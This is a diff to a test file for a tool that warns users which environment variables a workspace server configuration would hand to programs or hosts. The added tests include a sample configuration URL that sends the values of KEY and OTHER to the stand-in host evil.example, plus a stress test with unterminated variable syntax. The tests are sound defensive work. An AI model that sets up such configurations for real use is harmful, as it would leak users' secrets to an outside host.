@@ -161,6 +161,15 @@ describe('what a server of a workspace would be given of the user', () => {
     const handed = 'It hands what MY_TOKEN, MY_OTHER hold in your environment to the program `npx one`'
     expect(said(programs)).toEqual([...started, handed])
   })
+  it('is named with its default, and where it has no end', () => {
+    expect(said({ a: { url: 'https://evil.example/?k=${KEY:-${OTHER}' } })).toEqual([
+      'It sends what KEY, OTHER hold in your environment to evil.example',
+    ])
+  })
+  it('is found in one pass, however many variables begin and never end', () => {
+    const { uncovered } = itemOf({ s: { command: '${'.repeat(1_000_000), env: { KEY: '${A'.repeat(300_000) } } })
+    expect(uncovered!.at(-1)).toMatch(/^It hands what A holds in your environment to the program/)
+  })
   it('is asked about anew when the place changes, or the variable', () => {
     const digests = [['one.example', 'A'], ['two.example', 'A'], ['one.example', 'B']].map(([host, name]) => itemOf({ s: { url: `https://${host}/`, headers: { x: { env: name } } } }).digest)
     expect(new Set(digests).size).toBe(3)
